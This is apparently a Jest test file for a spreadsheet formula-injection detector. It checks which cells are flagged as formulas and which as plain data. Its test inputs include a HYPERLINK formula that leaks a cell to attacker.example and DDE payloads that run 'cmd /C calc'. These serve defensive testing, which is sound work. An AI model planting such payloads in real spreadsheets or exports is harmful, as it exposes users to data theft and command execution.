import { expect, it } from '@jest/globals';

import { isFormula } from '../../src/sample/formula-injection.js';

/** `¦` separates cells. */
const formulas =
  '=1+1¦==¦=¦=HYPERLINK("https://attacker.example/?leak="&A1,"Click")¦=cmd|\' /C calc\'!A0¦' +
  "@SUM(1+1)¦@reception¦\t=1+1¦\tplain text after a tab¦\r=1+1¦\n=1+1¦-2+3+cmd|' /C calc'!A0¦" +
  '+2+3+cmd|\' /C calc\'!A0¦+A1¦-A1¦-SUM(A1:A9)¦+¦-¦--5¦-+5¦+-5¦-2-3¦-2*3¦-2/3¦-2^3¦-2&"x"¦' +
  '-1e¦-1e5+1¦-5%+1¦-20 °C¦- call first¦+/- 2 days¦+49-30-1234567¦+49 30 1234567+A1¦' +
  '+49 (30)-1¦+1 ()-1¦-49 30-1234567¦＝1＋1¦＠SUM¦＋A1¦－A1¦﹦1';
const data =
  '¦ ¦Zürich¦0¦12.5¦-1¦+3¦-12.5¦-12,5¦.5¦-.5¦+,5¦-1.5e3¦-1.5E-3¦-1,234.50¦-1.234,50¦-1 234,50¦' +
  "-1'234.50¦-5%¦-5 %¦-22.5¦+49 30 1234567¦+4930123456¦+49.30.1234567¦+1 (202) 555-0143¦" +
  '+1 202-555-0143¦+44 (0)20 7946 0958¦+81 3-5550-0123¦2-3¦1+1¦a=b¦anna@example.com¦' +
  "'=1+1¦ =1+1¦–5¦−5¦⁉️¦顧客リスト¦－１２¦＋３．５¦１２";

it.each(formulas.split('¦'))(
  'isFormula reports %j as a formula, unless an apostrophe precedes it',
  (cell) => {
    expect([isFormula(cell), isFormula(`'${cell}`)]).toEqual([true, false]);
  },
);

it.each(data.split('¦'))('isFormula reports %j as data', (cell) => {
  expect(isFormula(cell)).toBe(false);
});

it('isFormula reports every number as data, as text too', () => {
  const numbers = [0, 1, 12.5, 1e21, 1.5e-9, 123456789, Number.MAX_VALUE, Number.MIN_VALUE];
  const cells = numbers.flatMap((value) => [value, -value, `${value}`, `${-value}`, `+${value}`]);
  expect(cells.filter(isFormula)).toEqual([]);
});

it('isFormula takes time in proportion to the length of a cell', () => {
  const timeFor = (length: number) => {
    const cells = [`-${'1 '.repeat(length)}x`, `+1 ${'1-'.repeat(length)}x`];
    const times = Array.from({ length: 10 }, () => {
      // The time of this process does not depend on the load of the machine.
      const start = process.cpuUsage();
      expect(cells.filter(isFormula).length).toBe(2);
      const { user, system } = process.cpuUsage(start);
      return user + system;
    });
    return Math.min(...times);
  };
  // Linear time grows 16-fold, quadratic time 256-fold.
  expect(timeFor(40_000) / timeFor(2_500)).toBeLessThan(64);
});
